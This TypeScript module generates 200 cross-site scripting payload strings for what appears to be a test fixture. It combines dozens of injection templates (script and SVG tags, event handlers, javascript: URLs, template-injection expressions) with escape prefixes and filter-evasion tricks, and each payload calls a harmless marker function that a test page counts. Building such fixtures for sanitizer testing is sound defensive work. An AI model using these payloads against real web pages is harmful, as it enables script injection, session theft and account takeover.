/** What the strings try to run; a page counts it. */
export const MARK = '__ran()';

/** How text has become a program in one page or another. `%` is what it wants to run. */
const WAYS = [
  '<script>%</script>',
  '<SCRIPT>%</SCRIPT>',
  '<script >%</script >',
  '<script/x>%</script>',
  '<img src=x onerror=%>',
  '<img src=x onerror="%">',
  '<IMG SRC=x OnErRoR=%>',
  '<img/src=x/onerror=%>',
  '<img src onerror=%>',
  '<image src=x onerror=%>',
  '<img src=x:x onerror=%>',
  '<img srcset=x onerror=%>',
  '<svg onload=%>',
  '<svg/onload=%>',
  '<svg><script>%</script></svg>',
  '<svg><animate onbegin=% attributeName=x dur=1s>',
  '<svg><set onbegin=% attributeName=x>',
  '<svg><a href=javascript:%><text y=9>x</text></a>',
  '<svg><use href="data:image/svg+xml,%">',
  '<math href=javascript:%>x</math>',
  '<math><mtext><img src=x onerror=%>',
  '<body onload=%>',
  '<body onpageshow=%>',
  '<iframe src=javascript:%>',
  '<iframe srcdoc="<script>parent.%</script>">',
  '<iframe onload=%>',
  '<embed src=javascript:%>',
  '<object data=javascript:%>',
  '<object onerror=% data=x>',
  '<video src=x onerror=%>',
  '<video><source onerror=%>',
  '<audio src=x onerror=%>',
  '<audio src onloadstart=%>',
  '<input autofocus onfocus=%>',
  '<textarea autofocus onfocus=%>',
  '<select autofocus onfocus=%>',
  '<button autofocus onfocus=%>x',
  '<a href=javascript:% autofocus onfocus=%>x</a>',
  '<a href="java&#10;script:%">x</a>',
  '<a href="&#106;avascript:%">x</a>',
  '<p tabindex=1 autofocus onfocus=%>x',
  '<details open ontoggle=%>x',
  '<marquee onstart=%>x',
  '<style onload=%></style>',
  '<style>@import "javascript:%"</style>',
  '<link rel=stylesheet href=x onerror=%>',
  '<meta http-equiv=refresh content="0;javascript:%">',
  '<base href=javascript:%//>',
  '<form action=javascript:%><input type=submit>',
  '<form><button formaction=javascript:%>x',
  '<isindex action=javascript:% type=image>',
  '<keygen autofocus onfocus=%>',
  '<template><script>%</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=%>">',
  '<xmp><p title="</xmp><img src=x onerror=%>">',
  '<!--><img src=x onerror=%>-->',
  '<![CDATA[><img src=x onerror=%>]]>',
  '<p style=animation-name:x onanimationstart=%>x',
  '<p onclick=%>x</p>',
  '<p onmouseover=%>x</p>',
  '<p onpointerenter=%>x</p>',
  'javascript:%',
  'JaVaScRiPt:%',
  'data:text/html,<script>%</script>',
  '{{constructor.constructor("%")()}}',
  '${%}',
  '#{%}',
  '<%25= % %25>',
  '[[${%}]]',
  '{{%}}',
] as const;

/** Out of an attribute, an element or a string first. */
const EXITS = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '--!>',
  '`;',
  "';",
  '\u202e',
  '\u0000',
];
const LONGEST = 76;

function strings(): readonly string[] {
  const made = EXITS.flatMap((exit) =>
    WAYS.map((way) => `${exit}${way.replaceAll('%25', '\u0001').replaceAll('%', MARK).replaceAll('\u0001', '%')}`),
  );
  return [...new Set(made)].filter((text) => text.length <= LONGEST).slice(0, 200);
}

/** Two hundred strings, each of which runs something wherever a text is taken for a page's own. */
export const XSS_STRINGS = strings();
